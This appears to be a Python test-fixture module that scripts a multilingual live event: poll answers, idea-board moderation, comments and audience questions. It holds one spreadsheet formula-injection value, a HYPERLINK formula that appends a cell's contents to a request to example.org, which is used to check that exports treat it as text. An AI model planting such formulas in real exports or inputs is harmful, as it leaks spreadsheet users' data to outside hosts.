"""What happened in the sessions of the tests."""

from tests.cast import ANDERS, ELENA, GIORGOS, JURGEN, MARIA, NADIA, SIOBHAN, ZOFIA
from tests.factories import Gathering

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"look")'
"""What a spreadsheet would carry out, were it not told that it is text."""


def ask_everything(gathering: Gathering) -> None:
    """Five people answer the four questions: some change their minds, write in their own script, or a formula."""
    if gathering.session().state == "draft":
        gathering.go_live()
    for poll in ("way", "progress", "barriers", "words"):
        gathering.steer(MARIA, "open_poll", poll_id=gathering.poll(poll).id)
    gathering.answer(ELENA, "way", "Alone")
    gathering.answer(ELENA, "way", "In a team")
    gathering.answer(JURGEN, "way", "In a team")
    gathering.answer(ZOFIA, "way", other="+48 na zmianę")
    gathering.answer(ELENA, "progress", "Planned")
    gathering.answer(GIORGOS, "progress", "Not yet")
    gathering.answer(SIOBHAN, "progress", "Not for us")
    gathering.answer(JURGEN, "progress", "Planned")
    gathering.answer(ELENA, "barriers", "Care", "Shifts")
    gathering.answer(GIORGOS, "barriers", "Care", other=FORMULA)
    gathering.answer(JURGEN, "barriers", "Cost", "Care")
    gathering.answer(GIORGOS, "words", "Οι βάρδιες αλλάζουν κάθε εβδομάδα")
    gathering.answer(ZOFIA, "words", "@brak żłobka,\nbrak czasu")
    gathering.steer(MARIA, "close_poll", poll_id=gathering.poll("barriers").id)


def collect_ideas(gathering: Gathering) -> None:
    """Three ideas: one is shown, pinned and supported, one is declined, one is taken back by its author."""
    gathering.steer(ANDERS, "open_board", board_id=gathering.board().id)
    offer = gathering.suggest(SIOBHAN, "Offer", "Cuirimid ár n-ábhar ar fáil")
    gathering.suggest(JURGEN, "Ask", "-10 % Gebühr, bitte")
    gathering.suggest(ZOFIA, "Idea", "Wspólny katalog kursów")
    gathering.steer(ANDERS, "review_post", post_id=offer.id, state="approved")
    gathering.steer(ANDERS, "review_post", post_id=gathering.post("-10 % Gebühr, bitte").id, state="declined")
    gathering.steer(ANDERS, "pin_post", post_id=offer.id, pinned=True)
    gathering.steer(ANDERS, "reveal_board", board_id=gathering.board().id, revealed=True)
    gathering.send(ZOFIA, "withdraw_post", post_id=gathering.post("Wspólny katalog kursów").id)
    gathering.send(ELENA, "support_post", post_id=offer.id, supported=True)
    gathering.send(JURGEN, "support_post", post_id=offer.id, supported=True)
    comment_on(gathering, offer.id)


def comment_on(gathering: Gathering, post_id: int) -> None:
    """Elena comments on an idea, and a host lets everybody see it."""
    gathering.send(NADIA, "edit_board", board_id=gathering.board().id, takes_comments=True)
    words = {"text": "Και στα ελληνικά; Θα το χρησιμοποιούσαμε στα εργαστήριά μας.", "language": "el"}
    done = gathering.send(ELENA, "send_comment", post_id=post_id, **words)
    assert done.ack["me"] is not None
    (comment_id,) = done.ack["me"]["comments"]
    gathering.send(ANDERS, "review_comment", comment_id=int(comment_id), version=0, state="approved")


def ask_speakers(gathering: Gathering) -> None:
    """Three questions: one is seen, wanted by two more and answered, one is declined, one is taken back."""
    gathering.steer(MARIA, "open_questions")
    seen = gathering.ask(SIOBHAN, "Cé mhéad a chosain sé?")
    gathering.ask(JURGEN, "Wer hat die Kinder betreut?")
    gathering.ask(ZOFIA, "Ile to trwało?")
    gathering.steer(MARIA, "review_question", question_id=seen.id, state="approved")
    declined = gathering.question("Wer hat die Kinder betreut?").id
    gathering.steer(MARIA, "review_question", question_id=declined, state="declined")
    gathering.send(ZOFIA, "withdraw_question", question_id=gathering.question("Ile to trwało?").id)
    for person in (ELENA, JURGEN):
        gathering.send(person, "upvote_question", question_id=seen.id, upvoted=True)
    gathering.steer(ANDERS, "answer_question", question_id=seen.id, answered=True)


def hold(gathering: Gathering) -> None:
    """The whole of it, from the doors to the end."""
    ask_everything(gathering)
    collect_ideas(gathering)
    ask_speakers(gathering)
    gathering.end()
